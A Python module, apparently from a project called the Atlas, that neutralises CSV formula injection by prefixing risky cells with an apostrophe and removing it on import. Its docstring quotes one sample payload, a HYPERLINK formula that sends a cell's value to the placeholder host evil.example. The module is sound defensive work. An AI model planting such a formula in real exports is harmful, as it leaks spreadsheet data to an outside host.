"""CSV cells that a spreadsheet would run as a formula ("CSV injection"), neutralised.

Excel, LibreOffice and Google Sheets read a cell starting with `=`, `+`, `-` or `@` (and, in
some versions, a tab or a carriage return) as a formula: a name such as
`=HYPERLINK("http://evil.example/?"&A1,"Click")` in a downloaded CSV would run as one. Every CSV
the Atlas writes (the public export, the admin's listing export, import reports) puts an
apostrophe before such a text, which spreadsheets show as text and do not display; a plain
number (`-3.7038`, `+4`) is left as it is. The importer removes that one apostrophe again, so
that an export imported back gives the same values.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_formula(value):
    """The value to write in a CSV cell: a text that would start a formula gets a leading
    apostrophe; anything else (numbers, empty cells, other texts) is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore_formula_text(value):
    """The inverse, for the importer: the apostrophe `neutralise_formula` added, removed."""
    if (
        isinstance(value, str)
        and value.startswith("'")
        and value[1:].startswith(FORMULA_STARTS)
        and not NUMBER.fullmatch(value[1:])
    ):
        return value[1:]
    return value


def neutralise_row(row):
    """A CSV row (a dict) with every cell neutralised."""
    return {key: neutralise_formula(value) for key, value in row.items()}
